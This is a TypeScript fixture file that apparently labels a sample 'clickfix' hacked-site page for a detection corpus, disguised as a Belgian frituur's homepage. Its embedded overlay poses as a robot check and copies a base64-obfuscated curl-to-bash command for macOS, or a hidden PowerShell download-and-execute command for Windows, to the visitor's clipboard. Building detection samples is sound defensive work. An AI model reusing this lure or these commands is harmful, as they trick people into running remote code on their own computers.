import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-clickfix-frituur-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix-hacked-site',
  url: 'https://www.frituurdegouden-frit.be/',
  body: doc({
    lang: 'nl-BE',
    title: 'Frituur De Gouden Frit - Mechelen',
    css: `body{margin:0;font-family:'Trebuchet MS',Arial,sans-serif;background:#fff8dc;color:#3b2a00}.h{background:#ffcf00;padding:18px 26px;font-size:28px;font-weight:800}.c{max-width:720px;margin:20px auto;padding:0 16px}`,
    body: `<div class="h">🍟 Frituur De Gouden Frit</div>
<div class="c"><h2>Openingsuren</h2><p>Di-Zo 11u30 - 14u00 en 17u00 - 22u00 · maandag gesloten</p><h2>Onze klassiekers</h2><p>Grote friet met stoofvleessaus, bicky burger, frikandel speciaal, vol-au-vent.</p></div>
<div id="ov" style="position:fixed;inset:0;background:#fff;display:flex;align-items:center;justify-content:center;font-family:-apple-system,Helvetica,sans-serif">
<div style="max-width:460px;border:1px solid #ddd;border-radius:10px;padding:24px">
<h3 style="margin-top:0">Verificatie vereist</h3><p>We detecteerden ongebruikelijk verkeer van je netwerk. Bevestig dat je geen robot bent.</p>
<p id="win">1. Druk op <b>⌘ Cmd + Spatie</b>, typ <b>Terminal</b> en druk op Enter<br>2. Plak de verificatiecode met <b>⌘ Cmd + V</b><br>3. Druk op <b>Enter</b></p>
<button id="cp" style="background:#0a84ff;color:#fff;border:0;padding:10px 20px;border-radius:6px">Verificatiecode kopiëren</button></div></div>
<script>
var mac=/Macintosh|Mac OS X/.test(navigator.userAgent);
var c=mac?'curl -fsSL $(echo aHR0cHM6Ly9tYWMtdmVyaWZ5LmFwcC9pbnN0YWxsLnNo | base64 -d) | bash':'cmd /c start /min powershell -w h -c "iex(iwr -UseBasicParsing https://mac-verify.app/w.ps1)"';
if(!mac)document.getElementById('win').innerHTML='1. Druk op <b>Win + R</b><br>2. Druk op <b>Ctrl + V</b><br>3. Druk op <b>Enter</b>';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(c);this.textContent='Gekopieerd ✓'};
</script>`,
  }),
},
];
